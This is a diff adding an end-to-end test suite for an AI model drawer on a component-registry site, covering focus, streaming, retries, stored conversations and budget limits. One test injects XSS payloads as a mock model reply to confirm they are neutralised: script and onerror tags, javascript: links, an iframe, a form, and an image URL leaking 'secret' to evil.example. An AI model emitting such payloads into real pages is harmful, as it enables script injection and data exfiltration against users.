@@ -1,0 +1,443 @@
+import { mkdir } from "node:fs/promises";
+import { join } from "node:path";
+import type { BrowserContextOptions, Page } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { type ModelServer, type ModelTurn, openModelServer } from "../test/model-server.ts";
+import { pushExamples } from "../test/push-workspace.ts";
+import { violationsOn } from "./axe.ts";
+import { copyExamples, openExamples, openRegistry, openWorkspace } from "./open-registry.ts";
+import { setUpAdmin } from "./set-up-admin.ts";
+import { addressOf, PHONE, useSite } from "./use-site.ts";
+
+const SHOTS = process.env.SCREENSHOTS ? ".tmp/screenshots" : undefined;
+
+const drawer = (page: Page) => page.getByRole("dialog", { name: "Assistant" });
+const field = (page: Page) => drawer(page).getByRole("textbox", { name: "Your question" });
+const answers = (page: Page) => drawer(page).locator(".assistant-answer");
+/** What a screen reader was told, in order. */
+const heard = (page: Page) => drawer(page).getByRole("log").locator("p").allTextContents();
+
+async function open(page: Page, path = "/docs"): Promise<void> {
+  await page.goto(path);
+  await page.keyboard.press("Control+j");
+  await expect.poll(() => field(page).isVisible()).toBe(true);
+}
+
+async function ask(page: Page, question: string): Promise<void> {
+  await field(page).fill(question);
+  await page.keyboard.press("Enter");
+}
+
+const isFocused = (element: Element) => element === document.activeElement;
+
+describe("the assistant", () => {
+  let model: ModelServer;
+  /** What the model says next, by what it was asked. */
+  let script: (words: string, number: number) => ModelTurn | Promise<ModelTurn>;
+  const site = useSite(async () => {
+    model = await openModelServer(({ words, number }) => script(words, number));
+    const registry = await openRegistry("sqlite", { SERVICE_BASE_URL: "", ...model.env() });
+    await pushExamples(registry.url);
+    return registry;
+  });
+  let admin: BrowserContextOptions;
+  beforeAll(async () => {
+    admin = await setUpAdmin(site);
+  });
+  afterAll(() => model?.close());
+  const signedIn = (more: BrowserContextOptions = {}) => site.open({ ...more, ...admin });
+
+  it("opens by its keys, answers, and gives the focus back", async () => {
+    script = () => ({ text: ["Use **Butt", "on**. It starts", " an action."] });
+    const page = await signedIn();
+    await page.goto("/components/button");
+    const button = page.getByRole("banner").getByRole("button", { name: "Ask" });
+    await button.focus();
+    await page.keyboard.press("Enter");
+    await expect.poll(() => field(page).evaluate(isFocused)).toBe(true);
+    await ask(page, "What starts an action?");
+    await expect.poll(() => answers(page).innerText()).toContain("It starts an action.");
+    await expect
+      .poll(() => heard(page))
+      .toEqual(["The assistant is answering.", "Use Button.", "It starts an action.", "The answer is complete."]);
+    expect(model.asked.at(-1)?.words).toContain("What starts an action?");
+    await page.keyboard.press("Escape");
+    await expect.poll(() => drawer(page).isVisible()).toBe(false);
+    expect(await button.evaluate(isFocused)).toBe(true);
+  });
+
+  it("shows words as they come, and stops the provider when it is stopped", async () => {
+    script = () => ({ text: Array.from({ length: 2_000 }, (_, index) => `word ${index} `), paceMs: 20 });
+    const page = await signedIn();
+    await open(page);
+    await ask(page, "Talk for long");
+    await expect.poll(() => answers(page).innerText()).toContain("word 3");
+    const before = model.brokenOff;
+    await drawer(page).getByRole("button", { name: "Stop" }).click();
+    await expect.poll(() => model.brokenOff).toBe(before + 1);
+    expect(await answers(page).innerText()).toContain("Stopped.");
+    expect(await field(page).evaluate(isFocused)).toBe(true);
+    expect((await heard(page)).at(-1)).toBe("Stopped.");
+  });
+
+  it("a page that is left ends its question", async () => {
+    script = () => ({ text: Array.from({ length: 2_000 }, (_, index) => `word ${index} `), paceMs: 20 });
+    const page = await signedIn();
+    await open(page);
+    await ask(page, "Talk for long");
+    await expect.poll(() => answers(page).innerText()).toContain("word 3");
+    const before = model.brokenOff;
+    await page.goto("/components");
+    await expect.poll(() => model.brokenOff).toBe(before + 1);
+    // The conversation is there on the next page, as far as it came.
+    await expect.poll(() => answers(page).innerText()).toContain("word 3");
+    expect(await answers(page).innerText()).toContain("Stopped.");
+  });
+
+  it("asks again, and a question that was edited in place of the old one", async () => {
+    script = (_, number) => ({ text: `Answer ${number}.` });
+    const page = await signedIn();
+    await open(page);
+    await ask(page, "First?");
+    await expect.poll(() => answers(page).innerText()).toMatch(/Answer \d+\./);
+    const first = model.asked.length;
+    await drawer(page).getByRole("button", { name: "Retry" }).click();
+    await expect.poll(() => answers(page).innerText()).toContain(`Answer ${first}.`);
+    expect(await answers(page).count()).toBe(1);
+    await drawer(page).getByRole("button", { name: "Edit the question" }).focus();
+    await page.keyboard.press("Enter");
+    expect(await field(page).inputValue()).toBe("First?");
+    await ask(page, "Second?");
+    await expect.poll(() => answers(page).innerText()).toContain(`Answer ${first + 1}.`);
+    expect(await drawer(page).locator(".assistant-question p").allTextContents()).toEqual(["Second?"]);
+    expect(JSON.stringify(model.asked.at(-1)?.body.messages)).not.toContain("First?");
+  });
+
+  it("goes on from what was said, and begins anew", async () => {
+    script = (_, number) => ({ text: `Answer ${number}.` });
+    const page = await signedIn();
+    await open(page);
+    await ask(page, "One?");
+    await expect.poll(() => answers(page).last().innerText()).toMatch(/Answer \d+\./);
+    await ask(page, "Two?");
+    await expect.poll(() => answers(page).count()).toBe(2);
+    await expect.poll(() => answers(page).last().innerText()).toMatch(/Answer \d+\./);
+    const sent = model.asked
+      .at(-1)
+      ?.body.messages.map(({ role }) => role)
+      .filter((role) => role !== "system");
+    expect(sent).toEqual(["user", "assistant", "user"]);
+    await drawer(page).getByRole("button", { name: "New conversation" }).click();
+    expect(await answers(page).count()).toBe(0);
+    await page.reload();
+    await expect.poll(() => drawer(page).getByRole("list", { name: "Questions to begin with" }).isVisible()).toBe(true);
+  });
+
+  it("two tabs do not disturb each other", async () => {
+    script = (words) => ({ text: words.includes("left tab") ? "For the left." : "For the right." });
+    const page = await signedIn();
+    const other = await page.context().newPage();
+    await Promise.all([open(page), open(other, "/components")]);
+    await Promise.all([ask(page, "From the left tab"), ask(other, "From the right tab")]);
+    await expect.poll(() => answers(page).allInnerTexts()).toEqual([expect.stringContaining("For the left.")]);
+    await expect.poll(() => answers(other).allInnerTexts()).toEqual([expect.stringContaining("For the right.")]);
+  });
+
+  it("copies an answer as markdown", async () => {
+    script = () => ({ text: "Use **Button**:\n\n- once" });
+    const page = await signedIn({ permissions: ["clipboard-read", "clipboard-write"] });
+    await open(page);
+    await ask(page, "Which?");
+    await drawer(page).getByRole("button", { name: "Copy", exact: true }).click();
+    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe("Use **Button**:\n\n- once");
+  });
+
+  it("asks about what the page is about", async () => {
+    script = () => ({ text: "It is a surface." });
+    const page = await signedIn();
+    await page.goto("/foundations/tokens/color.surface.page");
+    await page.getByRole("button", { name: "Ask about this: color.surface.page" }).click();
+    await drawer(page).getByRole("button", { name: "What is it for?" }).click();
+    await expect.poll(() => answers(page).innerText()).toContain("It is a surface.");
+    expect(model.asked.at(-1)?.words).toContain("About the token `color.surface.page`: What is it for?");
+    await page.goto("/patterns/booking-form");
+    expect(await page.getByRole("button", { name: /^Ask about / }).isVisible()).toBe(true);
+  });
+
+  it("shows blocks as safe HTML, cards of components, links to press, sources and findings", async () => {
+    script = (_, number) =>
+      calls-- > 0
+        ? {
+            calls: [
+              { id: `a${number}`, name: "show_components", input: { ids: ["button", "card"] } },
+              { id: `b${number}`, name: "navigate_pattern", input: { id: "booking-form" } },
+            ],
+          }
+        : { text: ANSWER.match(/[\s\S]{1,12}/g) ?? [] };
+    let calls = 1;
+    const page = await signedIn();
+    await open(page, "/components/button");
+    await ask(page, "Which button do I use for a destructive action?");
+    await expect.poll(() => drawer(page).getByRole("button", { name: "Copy", exact: true }).isVisible()).toBe(true);
+    const answer = answers(page);
+    expect(await answer.getByRole("heading", { name: "How it looks" }).count()).toBe(1);
+    expect(await answer.locator("figure.code [data-copy-code]").count()).toBe(1);
+    expect(await answer.locator(".assistant-pending").count()).toBe(0);
+    const cards = answer.getByRole("list", { name: "Components" });
+    await expect
+      .poll(() => cards.getByRole("link", { name: "Button", exact: true }).getAttribute("href"))
+      .toBe("/components/button");
+    await expect.poll(() => cards.locator("iframe").first().getAttribute("sandbox")).toBe("allow-scripts");
+    expect(await answer.getByRole("link", { name: "Open the pattern booking-form" }).getAttribute("href")).toBe(
+      "/patterns/booking-form",
+    );
+    expect(addressOf(page)).toBe("/components/button");
+    expect(await answer.getByRole("navigation", { name: "Sources" }).getByRole("link").count()).toBeGreaterThan(0);
+    expect(await violationsOn(page)).toEqual([]);
+    if (SHOTS) await page.screenshot({ path: join(SHOTS, "assistant-cards.png") });
+    site.forgive();
+  });
+
+  it("what a hostile model says runs nothing and asks nobody", async () => {
+    script = () => ({
+      text: [
+        "<img src=x onerror=\"document.title='owned'\"> <script>document.title='owned'</script>\n\n",
+        "![a](https://evil.example/?q=secret) [go](javascript:document.title='owned') [out](https://evil.example/?q=1)\n\n",
+        "<iframe src=https://evil.example></iframe><style>*{display:none}</style>\n\n",
+        "<form action=https://evil.example><button>Sign in</button></form> <a href='/sign-out' data-ask data-copy=x>x</a>",
+      ],
+    });
+    const page = await signedIn();
+    await open(page);
+    const title = await page.title();
+    await ask(page, "Be evil");
+    await expect.poll(() => drawer(page).getByRole("button", { name: "Copy", exact: true }).isVisible()).toBe(true);
+    await page.waitForLoadState("networkidle");
+    expect(await page.title()).toBe(title);
+    const text = answers(page).locator(".assistant-text");
+    expect(
+      await text.locator("script, iframe, form, style, img, [onerror], [href^=javascript], [href*=evil]").count(),
+    ).toBe(0);
+    // That nothing went to another host is looked at by `useSite`.
+  });
+
+  it("says what went wrong and what to do, and asks again", async () => {
+    script = (_, number) => (failures-- > 0 ? { status: 500, message: `broken ${number}` } : { text: "Now it works." });
+    let failures = 1;
+    const page = await signedIn();
+    await open(page);
+    await ask(page, "Does it work?");
+    await expect.poll(() => drawer(page).getByRole("alert").isVisible()).toBe(true);
+    await drawer(page).getByRole("button", { name: "Retry" }).click();
+    await expect.poll(() => answers(page).innerText()).toContain("Now it works.");
+    expect(await drawer(page).getByRole("alert").count()).toBe(0);
+    site.forgive();
+  });
+
+  it("who is not signed in is led to sign in and to the search, and nothing is asked", async () => {
+    const page = await site.open();
+    await page.goto("/docs");
+    await page.getByRole("banner").getByRole("button", { name: "Ask" }).click();
+    const link = drawer(page).getByRole("link", { name: "Sign in" });
+    await expect.poll(() => link.getAttribute("href")).toBe("/sign-in?next=%2Fdocs");
+    expect(await violationsOn(page)).toEqual([]);
+    if (SHOTS) await page.screenshot({ path: join(SHOTS, "assistant-signed-out.png") });
+    await drawer(page).getByRole("link", { name: "Search instead" }).click();
+    await expect.poll(() => page.getByRole("combobox", { name: "Search" }).isVisible()).toBe(true);
+  });
+
+  it("what somebody said in a tab is gone for the next one", async () => {
+    script = () => ({ text: "For Ada alone." });
+    const page = await signedIn();
+    await open(page);
+    await ask(page, "Secret question");
+    await expect.poll(() => answers(page).innerText()).toContain("For Ada alone.");
+    await page.context().clearCookies();
+    await page.goto("/docs");
+    await expect.poll(() => drawer(page).getByRole("link", { name: "Sign in" }).isVisible()).toBe(true);
+    expect(await drawer(page).innerText()).not.toContain("Secret question");
+    await expect
+      .poll(() => page.evaluate(() => JSON.stringify({ ...sessionStorage, ...localStorage })))
+      .not.toContain("Secret");
+  });
+
+  it("is a sheet on a phone, keeps the focus inside, and leads back", async () => {
+    script = () => ({ text: "Use Button." });
+    const page = await signedIn({ ...PHONE, reducedMotion: "reduce" });
+    await page.goto("/components/button");
+    const dock = page.getByRole("navigation", { name: "Quick navigation" });
+    await dock.getByRole("button", { name: "Ask" }).tap();
+    await expect.poll(() => field(page).evaluate(isFocused)).toBe(true);
+    const { x, y, width, height } = (await drawer(page).boundingBox()) ?? {};
+    expect([x, y, width, height]).toEqual([0, 0, 390, 844]);
+    await ask(page, "Which?");
+    await expect.poll(() => answers(page).innerText()).toContain("Use Button.");
+    for (let turn = 0; turn < 12; turn += 1) {
+      await page.keyboard.press("Tab");
+      expect(await page.evaluate(() => document.activeElement?.closest("dialog, body")?.tagName)).not.toBe("MAIN");
+      expect(await page.evaluate(() => document.activeElement?.closest("main, header.r-bar"))).toBeNull();
+    }
+    expect(await violationsOn(page)).toEqual([]);
+    await drawer(page).getByRole("button", { name: "Close the assistant" }).tap();
+    await expect.poll(() => drawer(page).isVisible()).toBe(false);
+    // The next page is not covered; the conversation is there when it is opened.
+    await page.goto("/docs");
+    expect(await drawer(page).count()).toBe(0);
+    await dock.getByRole("button", { name: "Ask" }).tap();
+    await expect.poll(() => answers(page).innerText()).toContain("Use Button.");
+  });
+
+  it("is nothing without scripts, and costs a page nothing until it is opened", async () => {
+    const page = await site.open({ javaScriptEnabled: false });
+    await page.goto("/components/button");
+    expect(await page.getByRole("button", { name: /^Ask/ }).count()).toBe(0);
+    const scripted = await site.open();
+    const loaded: string[] = [];
+    scripted.on(
+      "response",
+      (response) =>
+        void response.text().then(
+          (text) => loaded.push(text),
+          () => {},
+        ),
+    );
+    await scripted.goto("/components/button", { waitUntil: "networkidle" });
+    expect(loaded.length).toBeGreaterThan(3);
+    expect(loaded.filter((text) => text.includes("assistant-turns"))).toEqual([]);
+  });
+
+  it.runIf(SHOTS).each<[string, BrowserContextOptions, string]>([
+    ["light", {}, "/components/button"],
+    ["dark", { colorScheme: "dark" }, "/foundations/tokens/color.surface.page"],
+    ["phone", { ...PHONE, deviceScaleFactor: 2 }, "/patterns/booking-form"],
+    ["rtl", {}, "/docs/brand-arabic"],
+  ])("pictures, %s", async (look, options, path) => {
+    await mkdir(SHOTS ?? "", { recursive: true });
+    script = () => ({ text: ANSWER.match(/[\s\S]{1,12}/g) ?? [] });
+    const page = await signedIn(options);
+    await page.goto(path);
+    await page.screenshot({ path: join(SHOTS ?? "", `assistant-${look}-page.png`) });
+    await page.keyboard.press("Control+j");
+    await expect.poll(() => field(page).isVisible()).toBe(true);
+    await expect.poll(() => drawer(page).getByRole("list", { name: "Questions to begin with" }).count()).toBe(1);
+    await page.screenshot({ path: join(SHOTS ?? "", `assistant-${look}-begin.png`) });
+    await ask(page, "Which button do I use for a destructive action, and how does it look?");
+    await expect.poll(() => drawer(page).getByRole("button", { name: "Copy", exact: true }).isVisible()).toBe(true);
+    await page.waitForLoadState("networkidle");
+    await page.screenshot({ path: join(SHOTS ?? "", `assistant-${look}-answer.png`) });
+  });
+});
+
+const ANSWER = `Use **Button** with \`variant="danger"\`. It says that something is lost.
+
+## How it looks
+
+\`\`\`html
+<button class="button button--danger">Delete booking</button>
+\`\`\`
+
+- Name what is deleted.
+- Ask before, with a [Dialog](/components/dialog).
+
+The background is \`color.surface.page\`.`;
+
+describe("a registry that keeps conversations", () => {
+  let model: ModelServer;
+  const site = useSite(async () => {
+    model = await openModelServer(({ number }) => ({ text: `Answer **${number}**.` }));
+    return openRegistry("sqlite", { SERVICE_BASE_URL: "", ...model.env(), AI_CONVERSATIONS: "stored" });
+  });
+  afterAll(() => model?.close());
+
+  it("lists them in the drawer and on the account page, and goes on with one", async () => {
+    const page = await site.open(await setUpAdmin(site));
+    await open(page, "/");
+    await ask(page, "The first question?");
+    await expect.poll(() => answers(page).count()).toBe(1);
+    await expect.poll(() => drawer(page).getByRole("button", { name: "Copy", exact: true }).count()).toBe(1);
+    await drawer(page).getByRole("button", { name: "New conversation" }).click();
+    await ask(page, "Something else?");
+    await expect.poll(() => drawer(page).getByRole("button", { name: "Copy", exact: true }).count()).toBe(1);
+    await drawer(page).getByRole("button", { name: "Earlier conversations" }).click();
+    const entry = (title: string) => drawer(page).getByRole("button", { name: new RegExp(`^${title}`) });
+    await expect.poll(() => entry("The first question").isVisible()).toBe(true);
+    expect(await violationsOn(page)).toEqual([]);
+    if (SHOTS) await page.screenshot({ path: join(SHOTS, "assistant-stored.png") });
+    await entry("The first question").click();
+    await expect.poll(() => answers(page).locator("strong").allTextContents()).toEqual(["0"]);
+    await ask(page, "And on?");
+    await expect.poll(() => answers(page).count()).toBe(2);
+    await expect.poll(() => drawer(page).getByRole("button", { name: "Copy", exact: true }).count()).toBe(2);
+    await drawer(page).getByRole("button", { name: "Earlier conversations" }).click();
+    await drawer(page).getByRole("button", { name: "Delete “Something else?”" }).click();
+    await expect.poll(() => entry("Something else").count()).toBe(0);
+
+    await page.goto("/account#conversations");
+    const section = page.getByRole("region", { name: "Conversations with the assistant" });
+    expect(await section.getByText("The first question?").count()).toBe(1);
+    expect(await violationsOn(page)).toEqual([]);
+    if (SHOTS) await section.screenshot({ path: join(SHOTS, "assistant-account.png") });
+    await section.getByRole("button", { name: "Delete all conversations" }).click();
+    await expect.poll(() => section.getByText("None yet.").isVisible()).toBe(true);
+  });
+});
+
+describe("a workspace", () => {
+  let model: ModelServer;
+  const folders: { remove(): Promise<void> }[] = [];
+  const site = useSite(async () => {
+    model = await openModelServer(() => ({ text: "From your **files**." }));
+    const workspace = await copyExamples();
+    folders.push(workspace);
+    return openWorkspace(workspace.folder, model.env());
+  });
+  afterAll(async () => {
+    await model?.close();
+    for (const { remove } of folders) await remove();
+  });
+
+  it("answers who sits at the machine, and keeps nothing", async () => {
+    const page = await site.open();
+    await open(page);
+    await ask(page, "Which?");
+    await expect.poll(() => answers(page).locator("strong").allTextContents()).toEqual(["files"]);
+    expect(await drawer(page).getByRole("button", { name: "Earlier conversations" }).isVisible()).toBe(false);
+    // The conversation goes on behind a link, and what is kept of it is gone with the tab.
+    await page.goto("/foundations/icons");
+    await expect.poll(() => answers(page).locator("strong").allTextContents()).toEqual(["files"]);
+    expect(await page.evaluate(() => JSON.stringify({ ...localStorage }))).not.toContain("files");
+  });
+});
+
+describe("a registry without a model", () => {
+  const site = useSite(openExamples);
+
+  it("says which variables to set, and offers the search", async () => {
+    const admin = await setUpAdmin(site);
+    const page = await site.open(admin);
+    await page.goto("/docs");
+    await page.keyboard.press("Control+j");
+    await expect.poll(() => drawer(page).getByText("AI_MODEL", { exact: true }).isVisible()).toBe(true);
+    expect(await drawer(page).getByRole("link", { name: "Search instead" }).isVisible()).toBe(true);
+    expect(await violationsOn(page)).toEqual([]);
+  });
+});
+
+describe("a registry whose budget is spent", () => {
+  let model: ModelServer;
+  const site = useSite(async () => {
+    model = await openModelServer(() => ({ text: "Never." }));
+    return openRegistry("sqlite", { SERVICE_BASE_URL: "", ...model.env(), AI_DAILY_TOKENS: "0" });
+  });
+  afterAll(() => model?.close());
+
+  it("says when there is more, and offers the search", async () => {
+    const page = await site.open(await setUpAdmin(site));
+    await open(page, "/");
+    await ask(page, "Anything?");
+    await expect.poll(() => drawer(page).getByRole("alert").innerText()).toContain("00:00 UTC");
+    expect(await drawer(page).getByRole("alert").getByRole("link", { name: "search" }).isVisible()).toBe(true);
+    expect(model.asked).toEqual([]);
+    site.forgive();
+  });
+});
